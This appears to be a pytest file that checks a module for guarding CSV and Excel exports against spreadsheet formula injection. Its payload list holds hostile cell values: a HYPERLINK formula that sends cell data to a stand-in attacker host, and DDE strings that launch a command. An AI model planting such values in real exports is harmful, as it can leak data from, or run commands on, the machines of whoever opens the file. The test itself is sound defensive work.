"""No table we write runs as formulas in a spreadsheet (OWASP CSV injection, issue 24): text
cells, headers and index labels starting with = + - @ (or a tab or carriage return) get a
leading ', numbers stay numbers, the input frame is untouched, and the user is told once."""

import logging
import re

import openpyxl
import pandas as pd
import pytest

from forecasting.common.csv_safety import formula_safe, one_note, write_csv, write_excel

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]
NUMBER = re.compile(r"\s*[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?\s*")


def risky(cell) -> bool:
    """What a spreadsheet could run: the test's own reading of the OWASP list."""
    return (
        isinstance(cell, str)
        and (cell.lstrip(" \n")[:1] in ("=", "+", "-", "@") or cell[:1] in ("\t", "\r"))
        and not NUMBER.fullmatch(cell)
    )


def frame() -> pd.DataFrame:
    n = len(PAYLOADS)
    return pd.DataFrame(
        {
            "queue": PAYLOADS,
            "calls": list(range(-3, n - 3)),
            "aht": [-1.5] * n,
            "note": ["-5", "+3", "sales", "1e3", None, "ok", "-0.5"],
            "kind": pd.Categorical(["=a", "b", "=a", "b", "b", "b", "b"]),
            "@header": ["x"] * n,
        }
    )


def test_text_cells_headers_and_labels_are_neutralised_and_numbers_stay(tmp_path):
    table = frame().set_index(pd.Index(["=idx", *"abcdef"], name="-label"))
    original = table.copy(deep=True)
    safe, count = formula_safe(table)
    pd.testing.assert_frame_equal(table, original)  # the input is never changed in place
    assert count == len(PAYLOADS) + 2 + 1 + 1 + 1  # cells, categories' cells, header, label, index name
    assert list(safe["queue"]) == ["'" + p for p in PAYLOADS]
    assert list(safe["note"][:4]) == ["-5", "+3", "sales", "1e3"]  # a number in text is read as a number
    assert "'@header" in safe.columns and safe.index[0] == "'=idx" and safe.index.name == "'-label"
    write_csv(table, tmp_path / "t.csv")
    back = pd.read_csv(tmp_path / "t.csv", index_col=0)
    assert pd.api.types.is_integer_dtype(back["calls"]) and back["calls"].min() == -3
    assert pd.api.types.is_float_dtype(back["aht"]) and (back["aht"] == -1.5).all()
    assert len(back) == len(table)  # a carriage return inside a cell does not start a row
    text = pd.read_csv(tmp_path / "t.csv", dtype=str, keep_default_na=False)
    assert not [c for c in [*text.columns, *text.to_numpy().ravel()] if risky(c)]


def test_a_carriage_return_inside_a_cell_cannot_start_a_row_of_its_own(tmp_path):
    write_csv(
        pd.DataFrame({"queue": ["sales\r=1+1", "ok"], "calls": [1, 2]}), tmp_path / "t.csv", index=False
    )
    back = pd.read_csv(tmp_path / "t.csv")
    assert list(back["queue"]) == ["sales\r=1+1", "ok"] and list(back["calls"]) == [1, 2]


def test_nothing_to_change_gives_the_frame_itself():
    table = pd.DataFrame({"queue": ["sales", "support"], "calls": [-1, 2]})
    safe, count = formula_safe(table)
    assert safe is table and count == 0


def test_excel_cells_are_text_never_formulas(tmp_path):
    write_excel(frame(), tmp_path / "t.xlsx", sheet_name="s", index=False)
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx")["s"]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.value for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if risky(c.value)]
    assert [c.value for c in sheet["B"][1:]] == list(range(-3, len(PAYLOADS) - 3))  # numbers, still


def test_the_user_is_told_once_per_block(caplog):
    with caplog.at_level(logging.WARNING, logger="capplan"), one_note():
        write_csv(frame(), index=False, name="a.csv")
        write_csv(frame(), index=False, name="b.csv")
        write_csv(pd.DataFrame({"x": [1]}), index=False, name="c.csv")
    notes = [r.getMessage() for r in caplog.records if "formulas" in r.getMessage()]
    assert len(notes) == 1 and notes[0].startswith("warning: 20 text cells") and "a.csv, b.csv" in notes[0]


@pytest.mark.parametrize("dtype", ["object", "str", "category"])
def test_every_text_dtype(dtype):
    column = pd.Series(["=1+1", "ok"], dtype=dtype)
    safe, count = formula_safe(pd.DataFrame({"q": column}))
    assert count == 1 and list(safe["q"].astype(object)) == ["'=1+1", "ok"]
